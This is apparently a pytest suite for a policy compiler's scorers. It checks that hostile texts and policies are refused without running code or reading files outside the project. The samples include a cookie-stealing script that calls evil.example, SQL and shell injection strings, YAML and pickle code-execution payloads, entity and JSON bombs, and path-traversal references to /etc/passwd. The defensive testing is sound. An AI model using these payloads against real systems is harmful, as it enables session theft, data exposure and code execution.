"""Hostile texts and hostile policies: every scorer answers or refuses, in bounded time, and nothing is run or read."""

from __future__ import annotations

import math
import sys
from pathlib import Path

import pytest

from constraintlang.source import SourceFile
from constraintlang_compiler.pipeline import compile_path, compile_with_diagnostics
from constraintlang_runtime.errors import ConfigError
from constraintlang_runtime.scorers.binding import bind_scorers
from constraintlang_runtime.scorers.pool import ScoringPool

# ------------------------------------------------------------------------------------------------- texts
SHORT = {
    "script": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "format": "%s%s%n {0.__class__.__mro__} {x!r:>{y}}",
    "sql": "'; DROP TABLE scores; --",
    "shell": "$(touch owned) `touch owned` ; touch owned",
    "python": "__import__('os').system('touch owned')",
    "yaml": "!!python/object/apply:os.system ['touch owned']",
    "pickle": "cos\nsystem\n(S'touch owned'\ntR.",
    "billion laughs": '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>&b;',
    "ansi": "\x1b[2J\x1b]0;owned\x07\x1b[31m",
    "controls": "".join(map(chr, range(32))) + "\x7f\x80\x9f",
    "nul": "a\0b\0",
    "bidi": "\u202e\u2066\u2069\u200f\u061c evil \u202c",
    "invisible": "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "high surrogate": "\ud800",
    "low surrogate": "x\udfffy",
    "swapped pair": "\udc00\ud800",
    "non-characters": "\ufffe\uffff\U0010ffff",
    "zalgo": "Z" + "\u0300" * 500,
    "line ends": "a\rb\r\nc\x0bd\x0ce\x1cf\u2028g\u2029h\u0085",
    "tags": "\U000e0041\U000e007f",
    "digits": "٣１²½Ⅷ",
    "json bomb": '{"a":' * 5000,
    "json numbers": "[1e999, -1e999, 1E-999]",
    "json keys": '{"__proto__": {}, "a": 1, "a": 2}',
    "open fence": "```python\n",
    "python depth": "(" * 3000 + ")" * 3000,
    "python chain": "a" + ".b" * 5000,
    "f-string": "f'{" * 200,
    "encoding line": "# -*- coding: utf-7 -*-\n+AG8-",
    "toml depth": "a = " + "{b=" * 3000,
    "url": "https://a:b@[::1]:99999/%00?x=\\#",
    "mail": "a@" * 2000 + "b",
}
LONG = {
    "letters": "a", "words": "word ", "lines": "\n", "brackets": "(", "quotes": '"', "urls": "://a:", "keys": '{"a":',
    "surrogates": "\ud83d", "accents": "e\u0301", "stops": "a.",
}  # fmt: skip
SIZES = {"words": 10_000_000, "surrogates": 10_000_000}
LEAST = 1_100_000  # beyond what the parsers read

SCORERS = {
    "readability": ("readability(gunning_fog)", "real in [0, 50]"),
    "repetition": ("repetition(distinct_2)", "score"),
    "language": ('language("en")', "score"),
    "secrets": ("secrets()", "count"),
    "json": ("json()", "flag"),
    "json_schema": ('json_schema("s.json")', "flag"),
    "python": ("code(python)", "flag"),
    "code_json": ("code(json)", "flag"),
    "toml": ("code(toml)", "flag"),
    "lexicon": ('lexicon("words.txt")', "count"),
    "regex": ('regex(re"(a+)+$")', "count"),
    "sentences": ("length(sentences)", "int"),
}


@pytest.fixture(scope="module")
def pool(tmp_path_factory: pytest.TempPathFactory) -> ScoringPool:
    folder = tmp_path_factory.mktemp("policy")
    (folder / "s.json").write_text('{"type": "object"}')
    (folder / "words.txt").write_text("dog\n")
    lines = [f"attribute my_{n}: {kind} {{ backend = {b} }}" for n, (b, kind) in SCORERS.items()]
    demands = [f"always not my_{n}" if kind == "flag" else f"my_{n} <= 1" for n, (_, kind) in SCORERS.items()]
    (folder / "p.policy").write_text("\n".join(["edition 1", *lines, *demands]))
    compiled = compile_path(folder / "p.policy")
    return ScoringPool(
        compiled.ir.attributes, bind_scorers(compiled.ir, {}, folder=folder, files=compiled.files)
    )


@pytest.mark.parametrize("name", SHORT)
def test_hostile_texts(pool: ScoringPool, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    found = pool.score([SHORT[name]], [SHORT[name]])
    assert set(found) == {f"my_{n}" for n in SCORERS}
    assert not any(math.isinf(value) for values in found.values() for value in values)
    assert list(tmp_path.iterdir()) == []  # nothing was run


@pytest.mark.parametrize("name", LONG)
def test_millions_of_characters(pool: ScoringPool, name: str) -> None:
    """Ten million in two of them; bounded by the tests' own time limit."""
    text = LONG[name] * (SIZES.get(name, LEAST) // len(LONG[name]))
    found = pool.score([""], [text])
    for parser in ("json", "json_schema", "python", "toml", "secrets"):
        assert math.isnan(found[f"my_{parser}"][0])  # no score, rather than a guess


# ---------------------------------------------------------------------------------------------- policies
POLICIES = {
    "schema above": ('json_schema("../../etc/passwd")', "flag"),
    "schema at the root": ('json_schema("/etc/passwd")', "flag"),
    "schema by a link": ('json_schema("link")', "flag"),
    "schema by a detour": ('json_schema("sub/../../secret.json")', "flag"),
    "word list above": ('lexicon("../secret.txt")', "count"),
    "word list of the library": ('lexicon("std/../../secret.txt")', "count"),
    "rubric at the root": ('judge("/etc/passwd")', "score"),
    "rubric above": ('judge("../secret.txt")', "flag"),
    "tests above": ('code_tests("../checks.py")', "flag"),
    "tests without leave": ('code_tests("checks.py")', "flag"),
    "a shell": ('python("os:system")', "score"),
    "a module with effects": ('python("antigravity:fly")', "score"),
    "a module of the folder": ('python("evil:f", deterministic=true)', "score"),
    "an attribute of a module": ('python("os:environ.get")', "score"),
    "no function": ('python("evil")', "score"),
    "a path": ('python("../evil:f")', "score"),
    "classifier above": ('classifier("../model")', "score"),
    "classifier at the root": ('classifier("/etc")', "score"),
    "no language": ('language("xx; import os")', "score"),
    "schema from the network": ('json_schema("remote.json")', "flag"),
    "schema that is no schema": ('json_schema("words.txt")', "flag"),
    "a pattern that goes back": (r'regex(re"(a)\1")', "count"),
}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    inner = tmp_path / "inner"
    (inner / "sub").mkdir(parents=True)
    for name in ("secret.json", "secret.txt", "checks.py"):
        (tmp_path / name).write_text("{}")
    (tmp_path / "model").mkdir()
    (inner / "link").symlink_to(tmp_path / "secret.json")
    (inner / "words.txt").write_text("dog\n")
    (inner / "remote.json").write_text('{"$ref": "http://127.0.0.1:9/s.json"}')
    (inner / "evil.py").write_text("open('owned', 'w')\ndef f(**k): return []\n")
    (inner / "checks.py").write_text("open('owned', 'w')\ndef test_a(): pass\n")
    return inner


@pytest.mark.parametrize("in_file", [True, False])
@pytest.mark.parametrize("name", POLICIES)
def test_hostile_policies(folder: Path, name: str, in_file: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """Refused with a coded error or a ConfigError, from a file and as a text; and nothing of them has run."""
    backend, kind = POLICIES[name]
    demand = "always not a" if kind == "flag" else "a <= 1"
    text = f"edition 1\nattribute a: {kind} {{ backend = {backend} }}\n{demand}\n"
    monkeypatch.chdir(folder)
    monkeypatch.syspath_prepend(folder)
    (folder / "p.policy").write_text(text)
    source = SourceFile(text, str(folder / "p.policy"), folder) if in_file else SourceFile(text)
    outcome = compile_with_diagnostics(source)
    if outcome.policy is None:
        errors = [d for d in outcome.diagnostics if d.severity == "error"]
        assert all(d.code.startswith("PC") for d in errors)
        assert errors
    else:
        with pytest.raises(ConfigError) as found:
            bind_scorers(outcome.policy.ir, {}, folder=folder, files=outcome.policy.files)
        assert found.value.help or "expected" in found.value.message
    assert "evil" not in sys.modules
    assert "antigravity" not in sys.modules
    assert not (folder / "owned").exists()


@pytest.mark.parametrize("verb", ["score", "why", "try", "test", "eval", "generate", "train"])
def test_every_command_that_scores_has_both_flags(verb: str, capsys: pytest.CaptureFixture[str]) -> None:
    from constraintc.main import main

    assert main([verb, "--help"]) == 0
    text = capsys.readouterr().out
    assert "--allow-code" in text
    assert "--allow-plugins" in text


def test_the_command_refuses_and_allows_code(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from constraintc.main import main

    (folder / "checks.py").write_text("import answer\ndef test_a(): assert answer.x == 1\n")
    (folder / "p.policy").write_text(
        'edition 1\nattribute a: flag { backend = code_tests("checks.py") }\nalways a\n'
    )
    (folder / "rows.jsonl").write_text('{"prompt": "p", "completion": "x = 1"}\n')
    score = ["score", str(folder / "p.policy"), "--data", str(folder / "rows.jsonl"), "--quiet"]
    assert main(score) == 2
    assert "--allow-code" in capsys.readouterr().err
    assert main([*score, "--allow-code"]) == 0
